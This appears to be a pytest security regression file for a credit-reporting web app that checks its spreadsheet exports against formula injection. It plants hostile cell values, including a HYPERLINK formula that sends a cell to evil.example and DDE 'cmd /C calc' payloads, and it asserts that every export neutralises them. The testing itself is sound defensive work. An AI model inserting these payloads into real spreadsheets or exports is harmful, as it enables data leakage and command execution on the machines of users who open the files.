"""Spreadsheet exports carry no live formulas (issue 21, finding 6).

An institution named ``=HYPERLINK("http://evil.example/?leak="&B2,"Open")`` was written into the
lending-outcomes workbook as a formula. Every export route of the app — found from the app's own
routes, so a new export cannot ship untested — is fetched here with hostile text planted in the
data it exports: no XLSX cell may be a formula, and every CSV field that a spreadsheet would run
is prefixed with ``'``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Final

import numpy as np
import pytest
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from httpx import Response
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

import factories
from creditbridge.access import service as access_service
from creditbridge.access.client import Signer
from creditbridge.access.models import Institution
from creditbridge.audit import service as audit
from creditbridge.core.actors import CONSOLE, Actor, ActorKind, Role
from creditbridge.core.clock import utc_now
from creditbridge.core.config import Settings
from creditbridge.ingest.models import CollectionMetric, Provider, Reject
from creditbridge.presentation.exports import csv_cell, xlsx_cell
from creditbridge.reports.models import AggregateRun
from creditbridge.scoring import card_file

from .conftest import LoggedIn
from .seed import seed_sample

# Regression trials of issue 21 (attack trial): `make audit-security` runs them.
pytestmark = pytest.mark.security

EVIL: Final = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
HOSTILE: Final = (
    EVIL,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
XLSX: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RUNS_AS_FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")

Login = Callable[..., LoggedIn]
Fetch = Callable[[TestClient, Session, Login], list[Response]]


def export_paths(app: FastAPI) -> set[str]:
    """Every route answering a spreadsheet: a path ending in .xlsx or .csv, or a route that
    documents a CSV or XLSX response."""
    found = set()
    for route in iter_route_contexts(app.routes):
        path = getattr(route, "path", "")
        responses = getattr(route, "responses", None) or {}
        media = {m for answer in responses.values() for m in answer.get("content", {})}
        if path.endswith((".xlsx", ".csv")) or media & {"text/csv", XLSX}:
            found.add(path)
    return found


# --- planting hostile data and fetching each export --------------------------------------------


def _market_outcomes(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    seed_sample(session)
    session.execute(update(Institution).where(Institution.name == "徽商银行").values(name=EVIL))
    session.flush()
    login_as(Role.OPERATOR)
    return [
        client.get(f"/market/outcomes.xlsx?by={by}")
        for by in ("institution", "province", "city", "industry", "size")
    ]


def _aggregates(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    cell = {
        "key": EVIL,
        "suppressed": False,
        "enterprises": 12,
        "penalties": 3,
        "penalty_per_1000": 250.0,
        "penalised_bp": -100,
        "dishonest_bp": 0,
        "enforced_bp": 0,
    }
    session.add(
        AggregateRun(
            computed_at=utc_now(),
            computed_by=EVIL,
            enterprises=12,
            tax_window="=1+1",
            duration_ms=1,
            tables={"city": [cell], "section": [{"key": "+1+1", "suppressed": True}]},
        )
    )
    session.flush()
    login_as(Role.OPERATOR)
    return [client.get("/aggregates.xlsx")]


def _collection(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    provider = factories.provider(session, name=EVIL)
    now = datetime(2026, 10, 5, tzinfo=UTC)
    session.add(
        CollectionMetric(
            month="2026-09",
            dataset_code="tax_payment",
            city_code="340100",
            provider_id=provider.id,
            cadence="periodic",
            deadline_date=date(2026, 10, 15),
            deliveries_due=1,
            deliveries_made=0,
            deliveries_on_time=0,
            first_received_date=None,
            batches_applied=0,
            batches_refused=1,
            coverage_expected=10,
            coverage_covered=0,
            records_total=0,
            records_complete=0,
            as_of_at=now,
            computed_at=now,
        )
    )
    session.flush()
    login_as(Role.OPERATOR)
    return [client.get("/collection/export.xlsx?month=2026-09")]


def _audit(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    audit.record(
        session,
        Actor(ActorKind.USER, 7, EVIL, Role.OPERATOR),
        action="test.hostile",
        object_type="+1+1",
        object_id="-2+3",
        detail={"note": EVIL},
    )
    login_as(Role.AUDIT_ADMIN)
    return [client.get("/audit/export.csv")]


def _plant_rejects(session: Session, provider: Provider) -> int:
    batch = factories.batch(session, provider, status="refused")
    for row, value in enumerate(HOSTILE, start=2):
        session.add(
            Reject(
                batch_id=batch.id,
                row=row,
                field="uscc",
                label="统一社会信用代码",
                value=value,
                code="INGEST-USCC",
                message="统一社会信用代码格式不正确",
            )
        )
    session.flush()
    return batch.id


def _rejects_page(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    user = login_as(Role.PROVIDER_USER).user
    provider = session.get(Provider, user.provider_id)
    assert provider is not None
    batch_id = _plant_rejects(session, provider)
    return [client.get(f"/ingest/batches/{batch_id}/rejects.csv")]


def _rejects_api(client: TestClient, session: Session, login_as: Login) -> list[Response]:
    provider = factories.provider(session)
    batch_id = _plant_rejects(session, provider)
    issued = access_service.create_client(
        session, CONSOLE, name="前置机", owner_kind="provider", algorithm="hmac-sm3",
        provider_id=provider.id, settings=Settings(),
    )  # fmt: skip
    signer = Signer(issued.client.key_id, secret=issued.secret)
    path = f"/api/v1/ingest/batches/{batch_id}/rejects"
    headers = signer.headers("GET", path, query="format=csv")
    return [client.get(f"{path}?format=csv", headers=headers)]


EXPORTS: Final[dict[str, Fetch]] = {
    "/market/outcomes.xlsx": _market_outcomes,
    "/aggregates.xlsx": _aggregates,
    "/collection/export.xlsx": _collection,
    "/audit/export.csv": _audit,
    "/ingest/batches/{batch_id}/rejects.csv": _rejects_page,
    "/api/v1/ingest/batches/{batch_id}/rejects": _rejects_api,
}


# --- checks ------------------------------------------------------------------------------------


def assert_no_formula_in_xlsx(data: bytes) -> list[str]:
    """Every cell of every sheet is a value, never a formula; returns the text cells."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_no_formula_in_csv(data: bytes) -> list[str]:
    """No field starts with what a spreadsheet runs (a bare signed number excepted); returns
    the fields."""
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
    for field in fields:
        assert not field.startswith(RUNS_AS_FORMULA) or PLAIN_NUMBER.fullmatch(field), field
    return fields


def test_every_export_route_is_covered(app: FastAPI) -> None:
    assert export_paths(app) == set(EXPORTS)


@pytest.mark.parametrize("path", sorted(EXPORTS))
def test_export_carries_no_live_formula(
    path: str, client: TestClient, session: Session, login_as: Login
) -> None:
    texts: list[str] = []
    for response in EXPORTS[path](client, session, login_as):
        assert response.status_code == 200, response.text
        kind = response.headers["content-type"]
        if kind.startswith(XLSX):
            texts += assert_no_formula_in_xlsx(response.content)
        else:
            assert kind.startswith("text/csv")
            fields = assert_no_formula_in_csv(response.content)
            assert EVIL not in fields
            texts += [f.removeprefix("'") for f in fields if f.startswith("'")]
    # The planted name reached the export, as the text it is.
    assert EVIL in texts


# --- the helper itself and the CLI's scored file ----------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_prefixes_what_would_run(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "shown"),
    [(-5, "-5"), (np.int64(-12), "-12"), (-1.5, "-1.5"), ("-12.50", "-12.50"), ("+3", "+3"),
     (None, ""), ("合肥市", "合肥市"), ("a=b", "a=b")],
)  # fmt: skip
def test_csv_cell_keeps_numbers_and_plain_text(value: object, shown: str) -> None:
    assert csv_cell(value) == shown


def test_xlsx_cell_types_formula_text_as_a_string() -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([xlsx_cell(sheet, v) for v in (EVIL, -5, 1.5, "text")])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert [(c.value, c.data_type) for c in row] == [
        (EVIL, "s"),
        (-5, "n"),
        (1.5, "n"),
        ("text", "s"),
    ]


def test_scored_file_defuses_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    table = card_file.Table(
        {
            "name": np.asarray([EVIL, "合肥"], dtype=object),
            "x": np.asarray(["-1.5", None], dtype=object),
        },
        2,
    )
    out = tmp_path / "scored.csv"
    card_file.write_scored(out, table, np.asarray([-3, 600], dtype=np.int64))
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows == [["name", "x", "score"], ["'" + EVIL, "-1.5", "-3"], ["合肥", "", "600"]]
